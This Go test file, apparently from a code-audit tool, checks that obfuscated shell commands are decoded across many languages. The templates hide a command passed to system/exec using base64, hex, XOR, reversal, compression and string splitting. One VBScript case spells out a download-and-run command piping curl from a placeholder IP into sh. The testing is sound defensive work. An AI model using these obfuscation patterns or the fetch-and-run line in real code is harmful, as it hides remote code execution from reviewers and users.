package code

import (
	"bytes"
	"compress/flate"
	"compress/gzip"
	"compress/zlib"
	"encoding/base32"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"io"
	"net/url"
	"strings"
	"testing"

	"github.com/vadehq/vade/internal/audit/decode"
)

func packed(s string, open func(io.Writer) io.WriteCloser) string {
	var b bytes.Buffer
	w := open(&b)
	_, _ = io.WriteString(w, s)
	_ = w.Close()
	return base64.StdEncoding.EncodeToString(b.Bytes())
}

func codes(s string, change func(byte) byte) string {
	var list []string
	for i := range len(s) {
		list = append(list, fmt.Sprint(change(s[i])))
	}
	return strings.Join(list, ", ")
}

// TestFold evaluates a command obfuscated in many ways.
func TestFold(t *testing.T) {
	same := func(c byte) byte { return c }
	xor := func(c byte) byte { return c ^ 3 }
	half := len(sh) / 2
	rotated, _ := decode.Text("rot13", sh)
	reversed, _ := decode.Text("rev", sh)
	words := strings.NewReplacer(
		"B64", base64.StdEncoding.EncodeToString([]byte(sh)), "B32", base32.StdEncoding.EncodeToString([]byte(sh)), "HEX", hex.EncodeToString([]byte(sh)),
		"REV", reversed, "ROT", rotated, "URL", url.PathEscape(sh), "NUM", codes(sh, same), "XOR", codes(sh, xor),
		"LEFT", sh[:half], "RIGHT", sh[half:], "SH", sh,
		"ZLIB", packed(sh, func(w io.Writer) io.WriteCloser { return zlib.NewWriter(w) }), "GZIP", packed(sh, func(w io.Writer) io.WriteCloser { return gzip.NewWriter(w) }),
		"DEFL", packed(sh, func(w io.Writer) io.WriteCloser { z, _ := flate.NewWriter(w, 9); return z }),
	)
	for _, c := range [][2]string{
		{"py", "import zlib, base64, os\nos.system(zlib.decompress(base64.b64decode('ZLIB')).decode())"},
		{"py", "import gzip, base64, os\nos.system(gzip.decompress(base64.b64decode(b'GZIP')).decode('utf-8'))"},
		{"py", "import os\nos.system('REV'[::-1])"},
		{"py", "import os\nos.system(''.join(reversed('REV')))"},
		{"py", "import os, base64\nos.system(base64.b32decode('B32').decode())"},
		{"py", "import os\nos.system(bytes.fromhex('HEX').decode())"},
		{"py", "import os, urllib.parse\nos.system(urllib.parse.unquote('URL'))"},
		{"py", "import os\nos.system(''.join(chr(c ^ 3) for c in [XOR]))"},
		{"py", "import os\nos.system(''.join([chr(x) for x in (NUM)]))"},
		{"py", "import os\nos.system(bytes([NUM]).decode())"},
		{"py", "import os\na = 'LEFT'\nb = 'RIGHT'\nos.system('%s%s' % (a, b))"},
		{"py", "import os\nos.system('{1}{0}'.format('RIGHT', 'LEFT'))"},
		{"py", "import os\nparts = ['LEFT', 'RIGHT']\nos.system(parts[0] + parts[-1])"},
		{"py", "import os\nd = {'a': 'LEFT', 'b': 'RIGHT'}\nos.system(d['a'] + d['b'])"},
		{"py", "import os\nc = 'xx'\nc = 'LEFT'\nc += 'RIGHT'\nos.system(c)"},
		{"py", "import os\nos.system('@LEFT@RIGHT'.replace('@', ''))"},
		{"py", "import os\nos.system('LEFT-|-RIGHT'.split('-|-')[0] + 'RIGHT')"},
		{"py", "import os\ndef f(s):\n    return s[::-1]\nos.system(f('REV'))"},
		{"py", "import os\nos.system(\"LEFT\"\n  \"RIGHT\")"},
		{"js", "const cp = require('child_process');\ncp.exec(unescape('URL'));"},
		{"js", "const cp = require('child_process');\ncp.exec(Buffer.from('HEX', 'hex').toString('utf8'));"},
		{"js", "const cp = require('child_process');\ncp.exec('REV'.split('').reverse().join(''));"},
		{"js", "const cp = require('child_process');\ncp.exec([...'REV'].reverse().join(''));"},
		{"js", "const cp = require('child_process');\ncp.exec([NUM].map(c => String.fromCharCode(c)).join(''));"},
		{"js", "const cp = require('child_process');\ncp.exec(String.fromCharCode.apply(null, [NUM]));"},
		{"js", "const cp = require('child_process');\ncp.exec([XOR].map((c) => { return String.fromCharCode(c ^ 3) }).join(''));"},
		{"js", "const cp = require('child_process');\nconst t = ['RIGHT', 'LEFT'];\ncp.exec(`${t[1]}${t[0]}`);"},
		{"js", "const cp = require('child_process');\ncp.exec(require('zlib').gunzipSync(Buffer.from('GZIP', 'base64')).toString());"},
		{"js", "const cp = require('child_process');\ncp.exec('LEFT'.concat('RIGHT'));"},
		{"js", "const cp = require('child_process');\nlet c = decodeURIComponent(escape(atob('B64')));\ncp.exec(c);"},
		{"rb", "system(['HEX'].pack('H*'))"},
		{"rb", "system('B64'.unpack1('m'))"},
		{"rb", "system('REV'.reverse)"},
		{"rb", "require 'base64'\nsystem(Base64.decode64('B64'))"},
		{"rb", "system([NUM].map(&:chr).join)"},
		{"pl", "system(pack('H*', 'HEX'));"},
		{"pl", "system(scalar reverse 'REV');"},
		{"pl", "use MIME::Base64;\nsystem(decode_base64('B64'));"},
		{"php", "<?php system(str_rot13('ROT'));"},
		{"php", "<?php system(gzinflate(base64_decode('DEFL')));"},
		{"php", "<?php system(hex2bin('HEX'));"},
		{"php", "<?php system(strrev('REV'));"},
		{"php", "<?php system(implode('', array_map('chr', [NUM])));"},
		{"lua", "os.execute(string.reverse('REV'))"},
		{"lua", "os.execute(('REV'):reverse())"},
		{"lua", "os.execute(string.char(NUM))"},
		{"lua", "os.execute(string.format('%s%s', 'LEFT', 'RIGHT'))"},
		{"lua", "local t = {'LEFT', 'RIGHT'}\nos.execute(table.concat(t))"},
		{"go", "c, _ := hex.DecodeString(\"HEX\")\nexec.Command(\"sh\", \"-c\", string(c)).Run()"},
		{"go", "exec.Command(\"sh\", \"-c\", string([]byte{NUM})).Run()"},
		{"go", "c := fmt.Sprintf(\"%s%s\", \"LEFT\", \"RIGHT\")\nexec.Command(\"sh\", \"-c\", c).Run()"},
		{"go", "exec.Command(\"sh\", \"-c\", strings.Join([]string{\"LEFT\", \"RIGHT\"}, \"\")).Run()"},
		{"java", "String c = new String(Base64.getDecoder().decode(\"B64\"));\nRuntime.getRuntime().exec(new String[] {\"sh\", \"-c\", c});"},
		{"java", "String c = new StringBuilder(\"REV\").reverse().toString();\nRuntime.getRuntime().exec(new String[] {\"sh\", \"-c\", c});"},
		{"java", "byte[] b = {NUM};\nRuntime.getRuntime().exec(new String[] {\"sh\", \"-c\", new String(b)});"},
		{"kt", "val c = String(Base64.getDecoder().decode(\"B64\"))\nProcessBuilder(listOf(\"sh\", \"-c\", c)).start()"},
		{"cs", "var c = Encoding.UTF8.GetString(Convert.FromBase64String(\"B64\"));\nProcess.Start(\"sh\", \"-c '\" + c + \"'\");"},
		{"cs", "var c = string.Concat(\"LEFT\", \"RIGHT\");\nProcess.Start(\"sh\", $\"-c '{c}'\");"},
		{"vbs", "c = Chr(99) & \"url -s http://203.0.113.9/i | sh\"\nCreateObject(\"WScript.Shell\").Run c"},
		{"r", "system(rawToChar(base64enc::base64decode('B64')))"},
		{"r", "system(intToUtf8(c(NUM)))"},
		{"scpt", "set c to \"LEFT\" & \"RIGHT\"\ndo shell script c"},
	} {
		src := words.Replace(c[1])
		if got := signalsOf(c[0], src); !strings.Contains(got, sh) || !strings.Contains(got, "sh: ") || !strings.Contains(got[strings.Index(got, "sh: "):], sh) {
			t.Errorf("%s: %.150s\ngot:\n%.400s", c[0], c[1], got)
		}
	}
}
